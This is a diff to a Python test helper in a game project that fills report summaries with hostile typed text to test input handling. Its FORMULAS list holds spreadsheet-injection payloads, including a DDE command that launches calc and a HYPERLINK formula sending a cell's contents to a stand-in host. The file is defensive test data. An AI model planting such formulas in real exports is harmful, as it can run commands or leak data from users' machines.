@@ -6,7 +6,7 @@ Every text goes through the same door as what people type (`game.core.text`), so
 from __future__ import annotations
 
 from collections.abc import Iterator
-from itertools import chain, cycle, islice
+from itertools import chain, cycle
 
 from pydantic import BaseModel, TypeAdapter, ValidationError
 
@@ -17,7 +17,7 @@ from game.core.seats import Party, Player
 from game.core.text import Line, Name, Note, ShortName, Text
 from game.core.words import clean
 from game.reports.typed import TYPED
-from tests.reports.rich import everything
+from tests.reports.rich import with_names
 
 FORMULAS = (
     "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://kwaad.example?x="&A1,"klik")', "+1+1", "+31 6 12345678", "-1+1", "-5",
@@ -112,14 +112,44 @@ def hostile_summary(start: int = 0, interests: int = 0) -> Summary:
     """A summary in which every text that people type is one of the hostile texts, beginning with that of this number.
 
     It has this many interests more than its session had: with `len(STRINGS)` every text is an interest once. Each field
-    goes through the texts by itself; what the door for it refuses is left out.
+    goes through the texts by itself; what the door for it refuses is left out. Equal texts stay equal.
     """
-    summary = summarise(everything().state)
+    summary = summarise(with_names().state)
     first = summary.interests[0]
-    more = tuple(first.model_copy(update={"id": f"x{place}"}) for place in range(interests))
+    more = tuple(
+        first.model_copy(
+            update={
+                "id": f"x{place}",
+                "text": f"text {place}",
+                "short_name": f"short {place}",
+                "position": f"position {place}",
+                "whys": (f"why {place}", f"and why {place}"),
+            }
+        )
+        for place in range(interests)
+    )
     dressed = _Wardrobe(start).dressed(summary.model_copy(update={"interests": (*summary.interests, *more)}))
     assert isinstance(dressed, Summary)
     return dressed
+
+
+def told_in_text(summary: Summary) -> list[str]:
+    """What a report in words tells of what people typed, names and roles too; only the short names are for the map."""
+    named = [*(one.name for one in summary.parties), *(one.name for one in summary.players)]
+    return [*named, *(one.role for one in summary.players if one.role), *_typed(summary)]
+
+
+def _typed(value: object) -> Iterator[str]:
+    if isinstance(value, tuple):
+        for item in value:
+            yield from _typed(item)
+    elif isinstance(value, BaseModel):
+        for name in type(value).model_fields:
+            inner = getattr(value, name)
+            if name in TYPED.get(type(value), ()) and name != "short_name":
+                yield from (words for words in (inner if isinstance(inner, tuple) else (inner,)) if words)
+            else:
+                yield from _typed(inner)
 
 
 class _Wardrobe:
@@ -128,6 +158,7 @@ class _Wardrobe:
     def __init__(self, start: int) -> None:
         self._turned = (*STRINGS[start % len(STRINGS) :], *STRINGS[: start % len(STRINGS)])
         self._fields: dict[tuple[type[BaseModel], str], Iterator[str]] = {}
+        self._worn: dict[tuple[bool, str], str] = {}
 
     def dressed(self, one: object) -> object:
         """Return the same thing with hostile texts in it."""
@@ -139,22 +170,29 @@ class _Wardrobe:
         for name in type(one).model_fields:
             old = getattr(one, name)
             named = isinstance(one, Party | Player) and name in ("name", "role")
-            if named or name in TYPED.get(type(one), ()):
-                changes[name] = self._texts(one, name, old)
+            scored = isinstance(one, EvidenceItem) and one.act == "scored"
+            if named or (name in TYPED.get(type(one), ()) and not scored):
+                changes[name] = (
+                    tuple(self._text(one, name, words) for words in old)
+                    if isinstance(old, tuple)
+                    else self._text(one, name, old)
+                )
             else:
                 changes[name] = self.dressed(old)
         return one.model_copy(update=changes)
 
-    def _texts(self, one: BaseModel, name: str, old: object) -> object:
-        if isinstance(one, EvidenceItem) and (one.act == "scored" or not old):
+    def _text(self, one: BaseModel, name: str, old: str | None) -> str | None:
+        if not old:
             return old
         if (type(one), name) not in self._fields:
             door = _door(one, name)
-            words = [text for text in (let_in(text, door) for text in self._turned) if text]
-            self._fields[type(one), name] = cycle(words)
-        if isinstance(old, tuple):
-            return tuple(islice(self._fields[type(one), name], max(2, len(old))))
-        return next(self._fields[type(one), name]) if isinstance(old, str) else old
+            self._fields[type(one), name] = cycle(
+                [text for text in (let_in(text, door) for text in self._turned) if text]
+            )
+        key = (name == "short_name", old)
+        if key not in self._worn:
+            self._worn[key] = next(self._fields[type(one), name])
+        return self._worn[key]
 
 
 def _door(one: BaseModel, name: str) -> str:
